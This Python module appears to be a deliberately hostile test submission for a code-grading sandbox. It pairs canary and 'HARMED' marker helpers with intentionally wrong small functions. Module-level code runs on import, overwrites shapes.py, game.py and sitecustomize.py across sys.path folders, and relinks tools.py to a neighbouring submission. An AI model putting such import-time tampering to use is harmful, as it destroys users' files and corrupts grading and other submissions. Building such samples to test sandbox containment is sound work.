import json
import os
import sys

NAME = "rewrites-itself"


def canary(key):
    for folder in (os.path.dirname(os.path.abspath(__file__)), os.getcwd(), *sys.path):
        try:
            with open(os.path.join(folder, "canary.json")) as file:
                return json.load(file).get(key)
        except (OSError, ValueError):
            pass
    return None


def harmed(what, show=True):
    """Show from outside that it worked: a line in the report, a file in the outside folder."""
    try:
        print(f"HARMED {NAME}: {what}", file=sys.stdout if show else sys.stderr, flush=True)
    except (OSError, ValueError):
        pass
    try:
        with open(os.path.join(canary("outside_folder"), NAME + ".mark"), "a") as file:
            file.write(f"{what}\n")
    except (OSError, TypeError, ValueError):
        pass


from shapes import Colour, Point


def score(number):
    return number * 8


def greet(name):
    return "Bye"


def is_even(number):
    return number % 2 == 1


def checked(number):
    return abs(number)


def corner():
    return Point(2, Colour.BLUE)


class Pile:
    def __init__(self):
        self.items = []

    def push(self, item):
        self.items.append(item)
        return Pile()

    def pop(self):
        return str(self.items.pop())

    def size(self):
        return len(self.items) + 1


HERE = os.path.dirname(os.path.abspath(__file__))
for folder in {HERE, os.getcwd(), *sys.path}:
    for name, text in {"shapes.py": "print('REWRITTEN')\nColour = Point = None\n", "game.py": "print('REWRITTEN')\n", "sitecustomize.py": "print('REWRITTEN')\n"}.items():
        path = os.path.join(folder, name)
        try:
            if name == "sitecustomize.py" and "lib" in folder.split(os.sep):
                continue
            if os.path.exists(path) or folder == HERE:
                if os.access(path, os.W_OK) or folder == HERE:
                    if "site-packages" not in path and "lib/python" not in path:
                        try:
                            os.unlink(path)
                        except OSError:
                            pass
                        with open(path, "w") as file:
                            file.write(text)
                        print("rewrote", name)
        except OSError:
            pass
neighbour = canary("other_submission")
if neighbour:
    try:
        os.unlink(os.path.join(HERE, "tools.py"))
        os.symlink(os.path.join(neighbour, "tools.py"), os.path.join(HERE, "tools.py"))
    except OSError:
        pass
